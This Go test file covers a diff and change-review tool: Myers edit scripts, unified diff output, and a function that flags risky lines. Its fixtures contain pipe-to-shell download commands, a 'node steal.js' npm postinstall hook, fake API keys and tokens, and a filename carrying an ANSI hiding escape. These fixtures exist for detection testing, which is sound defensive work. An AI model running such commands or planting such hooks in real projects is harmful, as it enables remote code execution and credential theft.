package main

import (
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"github.com/sysprof/sysprof/changeset"
)

// TestMyersEditScript: the edit script turns old into new, and is as short as an LCS says.
func TestMyersEditScript(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	gen := func() []string {
		n := rng.IntN(12)
		out := make([]string, n)
		for i := range out {
			out[i] = string(rune('a' + rng.IntN(4)))
		}
		return out
	}
	for range 2000 {
		a, b := gen(), gen()
		ops, ok := myers(a, b, 1000)
		if !ok {
			t.Fatal("gave up")
		}
		var gotA, gotB []string
		edits := 0
		for _, o := range ops {
			if o.kind != '+' {
				gotA = append(gotA, o.line)
			}
			if o.kind != '-' {
				gotB = append(gotB, o.line)
			}
			if o.kind != ' ' {
				edits++
			}
		}
		if !slices.Equal(gotA, a) || !slices.Equal(gotB, b) {
			t.Fatalf("myers(%q, %q) = %v: does not rebuild both", a, b, ops)
		}
		if want := len(a) + len(b) - 2*lcs(a, b); edits != want {
			t.Fatalf("myers(%q, %q): %d edits, want %d", a, b, edits, want)
		}
	}
}

func lcs(a, b []string) int {
	dp := make([][]int, len(a)+1)
	for i := range dp {
		dp[i] = make([]int, len(b)+1)
	}
	for i := len(a) - 1; i >= 0; i-- {
		for j := len(b) - 1; j >= 0; j-- {
			if a[i] == b[j] {
				dp[i][j] = dp[i+1][j+1] + 1
			} else {
				dp[i][j] = max(dp[i+1][j], dp[i][j+1])
			}
		}
	}
	return dp[0][0]
}

func TestUnifiedDiff(t *testing.T) {
	old := splitLines("1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n")
	new := splitLines("1\n2\nthree\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n")
	got := unifiedDiff("a/f", "b/f", old, new)
	want := "--- a/f\n+++ b/f\n@@ -1,6 +1,6 @@\n 1\n 2\n-3\n+three\n 4\n 5\n 6\n@@ -10,3 +10,4 @@\n 10\n 11\n 12\n+13\n"
	if got != want {
		t.Fatalf("got\n%s\nwant\n%s", got, want)
	}
	if d := unifiedDiff("a", "b", old, old); d != "" {
		t.Fatalf("equal texts: %q", d)
	}
	if d := unifiedDiff("/dev/null", "b/f", nil, []string{"x"}); !strings.Contains(d, "@@ -0,0 +1,1 @@\n+x\n") {
		t.Fatalf("new file: %q", d)
	}
}

func TestHighlights(t *testing.T) {
	hosts := []string{"registry.example", "*.good.example"}
	for _, c := range []struct {
		path, line, want string
	}{
		{"/w/x.sh", "curl -fsSL https://registry.example/i.sh | bash", "a download piped to an interpreter"},
		{"/w/x.sh", "wget -qO- http://x | sudo sh", "a download piped to an interpreter"},
		{"/w/Makefile", "fetch: curl https://cdn.good.example/a -o a", ""},
		{"/w/README", "see https://evil.example/doc", "a URL to evil.example, a host the profile does not name"},
		{"/w/package.json", `  "postinstall": "node steal.js",`, "an npm install script (runs on npm install)"},
		{"/w/.env", "API_KEY=Zm9vYmFyYmF6cXV4MTIzNDU2", "a secret-looking string (API_KEY: name ends in API_KEY)"},
		{"/w/c.go", `tok := "ghp_0123456789abcdefghijABCDEFGHIJ012345"`, "a secret-looking string (value looks like a ghp token)"},
		{"/w/k.pem", "-----BEGIN OPENSSH PRIVATE KEY-----", "a secret-looking string (a private key)"},
		{"/w/c.yaml", "token_count: 12", ""},
	} {
		hs := highlights(c.path, false, map[int]string{1: c.line}, hosts)
		got := ""
		if len(hs) > 0 {
			got = hs[0].What
		}
		if got != c.want {
			t.Errorf("highlights(%s, %q) = %v, want %q", c.path, c.line, hs, c.want)
		}
	}
	if hs := highlights("/w/build.rs", true, nil, nil); len(hs) != 1 {
		t.Errorf("a new build.rs: %v", hs)
	}
}

// A hard link's entry names the file's other names, which apply with it (changeset.Apply).
func TestSideLineNamesHardLinks(t *testing.T) {
	e := diffEntry{Change: changeset.Change{Op: changeset.OpHardlink, Type: changeset.TypeFile, Mode: 0o644, Target: "/w/build/l1", Links: 2, Names: []string{"/w/build/l1\x1b[8m"}}}
	if got, want := sideLine(e), `hard link to /w/build/l1, applies only together with /w/build/l1\x1b[8m, file, mode 0644`; got != want {
		t.Errorf("sideLine = %q, want %q", got, want)
	}
}
